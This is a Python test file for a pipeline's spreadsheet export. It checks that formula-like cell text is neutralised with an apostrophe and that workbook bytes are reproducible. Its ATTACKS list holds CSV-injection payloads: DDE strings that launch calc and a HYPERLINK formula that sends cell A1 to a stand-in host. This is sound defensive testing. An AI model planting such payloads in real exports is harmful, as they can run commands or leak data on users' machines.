"""What people wrote never runs as a formula in a spreadsheet; a workbook's bytes depend on its content."""

from __future__ import annotations

import io
from datetime import date

import pandas as pd
import pytest
from openpyxl import Workbook, load_workbook

from pipeline.compose.context import Exported
from pipeline.compose.workbook import workbook
from pipeline.spreadsheets import harmless, harmless_columns, workbook_bytes

DAY = date(2026, 11, 2)
# OWASP, "CSV Injection": what makes Excel and LibreOffice compute, fetch or start something
ATTACKS = (
    '=HYPERLINK("https://a.example/"&A1)', "=cmd|' /C calc'!A0", "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1",
)  # fmt: skip


@pytest.mark.parametrize("text", ATTACKS)
def test_a_formula_becomes_text(text: str) -> None:
    assert harmless(text) == f"'{text}"


@pytest.mark.parametrize(
    "text", ["", "Kita = Haus", "+49 6031 000-0", "-", "-2,5 %", "– keine –", "a@b.example", "'=1"]
)
def test_what_runs_nothing_stays_as_it_is(text: str) -> None:
    assert harmless(text) == text


def test_only_texts_of_the_chosen_columns_change_and_missing_ones_stay_missing() -> None:
    table = pd.DataFrame({"n": [-1.5, 2.0], "a": ["=1", None], "b": ["=1", "x"]})
    every = harmless_columns(table)
    assert every["n"].tolist() == [-1.5, 2.0]
    assert every["a"].tolist()[0] == "'=1"
    assert every["a"].isna().tolist() == [False, True]
    assert harmless_columns(table, ["b"])["a"].tolist()[0] == "=1"


@pytest.mark.parametrize("text", ATTACKS[:5])
def test_no_cell_of_a_workbook_is_a_formula(text: str) -> None:
    exported = {"t": Exported(text, (text, "n"), ((text, "1"),), text)}
    sheets = load_workbook(io.BytesIO(workbook(exported, text, DAY))).worksheets
    cells = [cell for sheet in sheets for row in sheet.iter_rows() for cell in row]
    assert sum(cell.value == text for cell in cells) == 6, (
        "title, caption twice, header, cell, source"
    )
    assert {cell.data_type for cell in cells if cell.value is not None} == {"s", "n"}


def test_a_table_exported_as_csv_holds_no_formula() -> None:
    lines = Exported("=1", ("@a", "b"), (("=2", "24,3 %"),), "Quelle: x").csv()
    assert lines == "\ufeff'=1\r\n'@a;b\r\n'=2;24,3 %\r\nQuelle: x\r\n"


def test_the_same_content_gives_the_same_bytes_and_the_day_given() -> None:
    def made() -> bytes:
        book = Workbook()
        book.active["A1"] = "Inhalt"
        return workbook_bytes(book, DAY)

    properties = load_workbook(io.BytesIO(made())).properties
    assert made() == made()
    assert properties.modified.date() == properties.created.date() == DAY
